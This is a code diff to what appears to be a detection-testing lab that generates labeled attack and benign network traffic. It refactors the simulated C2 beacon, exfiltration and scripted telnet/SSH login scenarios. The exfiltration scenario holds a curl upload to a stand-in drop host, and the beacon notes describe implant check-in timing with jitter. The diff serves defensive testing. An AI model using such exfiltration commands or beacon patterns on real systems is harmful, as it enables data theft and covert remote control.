@@ -298,6 +298,18 @@ def victim(host: str, port: int | None, service: str) -> dict:
     return {"ip": HOSTS[host].ip, "port": port, "service": service}
 
 
+def outbound(rule: str, host: str, external: str, port: int, service: str, **details) -> Event:
+    """An event whose actor is a LAN host talking to one external address; its packets are that pair's."""
+    return Event(
+        rule,
+        [{"ip": EXTERNAL[external], "port": port, "service": service}],
+        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL[external]}",
+        attacker_ip=HOSTS[host].ip,
+        attacker_mac=HOSTS[host].mac,
+        **details,
+    )
+
+
 def tcp_filter(src: str, dst: str, port: int) -> str:
     return f"ip.addr=={src} && ip.addr=={dst} && tcp.port=={port}"
 
@@ -434,19 +446,29 @@ def cleartext(
     return Scenario(name, "attack", what, steps)
 
 
-TELNET_EXPECT = f"""
-set timeout 20
-spawn telnet {SRV1}
-expect "login:"
-send "bob\\r"
-expect "assword:"
-send "{USERS["bob"]}\\r"
-expect -re {{[$#] $}}
-send "uptime; ls -la\\r"
-expect -re {{[$#] $}}
-send "exit\\r"
-expect eof
-"""
+PROMPT = "-re {[$#] $}"
+
+
+def expect_script(spawn: str, dialogue: list[tuple[str, str, int]]) -> str:
+    """An expect(1) script: spawn a client, then for each step wait for a pattern, pause, type a line."""
+    lines = ["", "set timeout 20", f"spawn {spawn}"]
+    for pattern, typed, pause in dialogue:
+        lines.append(f"expect {pattern}")
+        if pause:
+            lines.append(f"sleep {pause}")
+        lines.append(f'send "{typed}\\r"')
+    return "\n".join([*lines, "expect eof", ""])
+
+
+TELNET_EXPECT = expect_script(
+    f"telnet {SRV1}",
+    [
+        ('"login:"', "bob", 0),
+        ('"assword:"', USERS["bob"], 0),
+        (PROMPT, "uptime; ls -la", 0),
+        (PROMPT, "exit", 0),
+    ],
+)
 
 
 def arp_spoof(name: str, tool: str, command: list[str], quit_input: str | None, what: str, notes: str) -> Scenario:
@@ -555,13 +577,13 @@ def beacon(name: str, sleep: float, jitter: float, minutes: float, scheme: str, 
             "--seed",
             "3",
         ]
-        event = Event(
+        event = outbound(
             "C2_BEACON",
-            [{"ip": EXTERNAL["c2"], "port": port, "service": scheme}],
-            f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2']}",
+            host,
+            "c2",
+            port,
+            scheme,
             tool="tests/lab/actors.py beacon (stand-in implant, python requests)",
-            attacker_ip=HOSTS[host].ip,
-            attacker_mac=HOSTS[host].mac,
             notes=f"stand-in for an HTTP implant: check-in every {sleep} s shortened by up to {jitter:.0%} (Cobalt "
             f"Strike jitter), a new TCP connection per check-in, an 8-48 KB task result (hex text) POSTed "
             f"after ~15 % of check-ins; the name is resolved through dns each time",
@@ -594,13 +616,13 @@ def ws_beacon(lab: Lab, rec: Recorder) -> None:
         "--seed",
         "4",
     ]
-    event = Event(
+    event = outbound(
         "C2_BEACON",
-        [{"ip": EXTERNAL["c2ws"], "port": 443, "service": "websocket over TLS"}],
-        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['c2ws']}",
+        host,
+        "c2ws",
+        443,
+        "websocket over TLS",
         tool="tests/lab/actors.py ws-beacon (stand-in implant, python websockets)",
-        attacker_ip=HOSTS[host].ip,
-        attacker_mac=HOSTS[host].mac,
         notes="one long-lived TLS WebSocket connection for 3 min; inside it a check-in every 5 s shortened by up to "
         "10 %, occasional 8-48 KB results: periodic bursts within a single flow",
     )
@@ -613,13 +635,13 @@ def exfiltration(lab: Lab, rec: Recorder) -> None:
     _random_file(payload, size_mb)
     url = f"https://{EXTERNAL_NAMES['drop']}/upload/crm-dump.tar.gz"
     command = ["curl", "-sk", "-H", "Expect:", "-T", str(payload), url]
-    event = Event(
+    event = outbound(
         "DATA_EXFILTRATION",
-        [{"ip": EXTERNAL["drop"], "port": 443, "service": "https (nginx WebDAV PUT)"}],
-        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL['drop']}",
+        host,
+        "drop",
+        443,
+        "https (nginx WebDAV PUT)",
         tool="curl",
-        attacker_ip=HOSTS[host].ip,
-        attacker_mac=HOSTS[host].mac,
         outcome=f"{size_mb} MiB of random data uploaded",
         notes="one HTTPS PUT of 100 MiB of random data to a host the site never talked to",
     )
@@ -680,26 +702,17 @@ def lateral_movement(lab: Lab, rec: Recorder) -> None:
 
 
 # --- benign scenarios ---------------------------------------------------------------------------------------
-ADMIN_SSH_EXPECT = f"""
-set timeout 20
-spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no alice@{SRV1}
-expect "assword:"
-send "Corp!Admin-2178\\r"
-expect "assword:"
-send "{USERS["alice"]}\\r"
-expect -re {{[$#] $}}
-send "df -h; uptime\\r"
-expect -re {{[$#] $}}
-sleep 4
-send "ls -la /var/log | head -20\\r"
-expect -re {{[$#] $}}
-sleep 6
-send "ps aux | head -30\\r"
-expect -re {{[$#] $}}
-sleep 5
-send "exit\\r"
-expect eof
-"""
+ADMIN_SSH_EXPECT = expect_script(
+    f"ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no alice@{SRV1}",
+    [
+        ('"assword:"', "Corp!Admin-2178", 0),  # a typo: the admin gets the password right at the second try
+        ('"assword:"', USERS["alice"], 0),
+        (PROMPT, "df -h; uptime", 0),
+        (PROMPT, "ls -la /var/log | head -20", 4),
+        (PROMPT, "ps aux | head -30", 6),
+        (PROMPT, "exit", 5),
+    ],
+)
 
 
 def admin_work(lab: Lab, rec: Recorder) -> None:
